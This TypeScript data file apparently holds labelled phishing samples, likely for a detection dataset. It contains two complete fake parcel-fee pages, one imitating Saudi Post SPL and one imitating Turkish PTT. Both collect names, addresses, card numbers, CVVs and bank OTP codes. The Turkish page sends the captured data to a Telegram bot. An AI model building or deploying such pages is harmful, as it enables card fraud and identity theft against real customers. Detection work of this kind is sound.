import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { doc, wordmark, cardCss, cardFields, cardMaskJs, otpBoxes, otpJs, countdownJs, stepFlow, sendFetchForm, sendJson, sendXhr, sendTelegram, json, js } from '../parts/yl-kit.js';

const timeline = (rows: [string, string][], dir = 'ltr'): string => `<ul style="list-style:none;padding:0;margin:0 0 18px;font-size:13px;direction:${dir}">${rows.map(([t, s], i) => `<li style="display:flex;gap:10px;padding:7px 0;border-bottom:1px solid #f0f0f0"><span style="width:10px;height:10px;border-radius:50%;margin-top:4px;flex:none;background:${i === 0 ? '#e8710a' : '#c9ced6'}"></span><span><b>${s}</b><br><span style="color:#888">${t}</span></span></li>`).join('')}</ul>`;

export const entries: Entry[] = [
{
  id: 'yl-spl-national-address-fee',
  label: 'phishing',
  kind: 'delivery-fee-kit',
  url: 'https://splonline-sa.top/ar/address-update',
  body: doc({
    title: 'سبل | البريد السعودي - تحديث العنوان الوطني',
    lang: 'ar',
    css: cardCss({ bg: '#f0f4f8', primary: '#1b365d', radius: 10 }) + `.hd{background:#1b365d;color:#fff;padding:14px 22px;display:flex;justify-content:space-between}.b{background:#e9f1fb;border-radius:8px;padding:10px 12px;font-size:13px;margin-bottom:14px;line-height:1.7}`,
    body: `<div class="hd">${wordmark('سبل SPL', '#fff', { size: 22, width: 110 })}<span style="font-size:13px">English</span></div>
<div class="wrap"><div class="card">
<div class="step on"><h1>تعذر توصيل شحنتك</h1><div class="b">شحنتك رقم <b dir="ltr">SA 5839 2271 04</b> متوقفة بسبب عدم اكتمال العنوان الوطني. يرجى تحديث العنوان ودفع رسوم إعادة التوصيل (5.75 ريال).</div>
<form><div class="f"><label>الاسم الكامل</label><input name="name" required></div><div class="f"><label>رقم الجوال</label><input name="mobile" dir="ltr" required></div><div class="row"><div class="f"><label>المدينة</label><input name="city" required></div><div class="f"><label>الرمز البريدي</label><input name="zip" required></div></div><div class="f"><label>رقم المبنى / الرقم الإضافي</label><input name="bld" required></div><button class="btn">التالي</button></form></div>
<div class="step"><h1>دفع رسوم التوصيل</h1><form>${cardFields({ name: 'اسم حامل البطاقة', number: 'رقم البطاقة (مدى / فيزا / ماستركارد)', exp: 'تاريخ الانتهاء', cvv: 'CVV' })}<button class="btn">ادفع 5.75 ر.س</button></form></div>
<div class="step"><h1>رمز التحقق</h1><p class="sub">أدخل رمز التحقق المرسل إلى جوالك من البنك.</p><form>${otpBoxes(4)}<button class="btn">تأكيد الدفع</button></form></div>
</div><footer>© مؤسسة البريد السعودي «سبل»</footer></div>
<script>${cardMaskJs}${otpJs}</script>
${stepFlow({ send: sendJson('/ar/api/collect'), finalUrl: 'https://splonline.com.sa/ar/' })}`,
  }),
  routes: { 'splonline-sa.top/ar/api/collect': json({ ok: true }) },
},
{
  id: 'yl-ptt-gumruk-ucreti-tr',
  label: 'phishing',
  kind: 'delivery-fee-kit',
  url: 'https://ptt-gonderi-takip.net/sorgula/?kod=RB204113998TR',
  body: doc({
    title: 'PTT Kargo Takip | Gönderi Sorgulama',
    lang: 'tr',
    css: cardCss({ bg: '#fff8e1', primary: '#ffcc00', text: '#222', radius: 6, width: 500 }) + `.btn{color:#222}.hd{background:#ffcc00;padding:12px 22px}.due{background:#fff3f3;border:1px solid #f4c7c7;color:#a40000;padding:10px;border-radius:6px;font-size:14px;margin-bottom:14px}`,
    body: `<div class="hd">${wordmark('PTT', '#1a3b8a', { size: 28 })}</div><div class="wrap"><div class="card">
<div class="step on"><h1>Gönderi No: <span id="k"></span></h1>
${timeline([['Bugün 08:41', 'Gümrük işlemi bekleniyor'], ['Dün 22:10', 'İstanbul Gümrük Müdürlüğüne ulaştı'], ['3 gün önce', 'Çıkış ülkesinden gönderildi (DE)']])}
<div class="due">Gönderinizin teslim edilebilmesi için <b>28,90 TL</b> gümrük vergisi ve hizmet bedelinin ödenmesi gerekmektedir. Ödenmeyen gönderiler 3 iş günü içinde iade edilir.</div>
<form><div class="f"><label>Ad Soyad</label><input name="ad" required></div><div class="f"><label>Telefon</label><input name="tel" required></div>${cardFields({ name: 'Kart üzerindeki isim', number: 'Kart numarası', exp: 'Son kullanma tarihi', cvv: 'CVV' })}<button class="btn">28,90 TL Öde</button></form></div>
<div class="step"><h1>3D Secure</h1><p class="sub">Bankanızdan gelen SMS şifresini giriniz.</p><form>${otpBoxes()}<button class="btn">Onayla</button></form></div>
</div><footer>© PTT A.Ş. 2025 · 444 1 788</footer></div>
<script>${cardMaskJs}${otpJs}document.getElementById('k').textContent=new URLSearchParams(location.search).get('kod');</script>
${stepFlow({ send: sendTelegram('6983301247:AAG0iH3kPqLm5NvXy7RbZs2TwCd9fEu1aJo', '-1001987334120', 'PTT'), finalUrl: 'https://gonderitakip.ptt.gov.tr/' })}`,
  }),
},
];
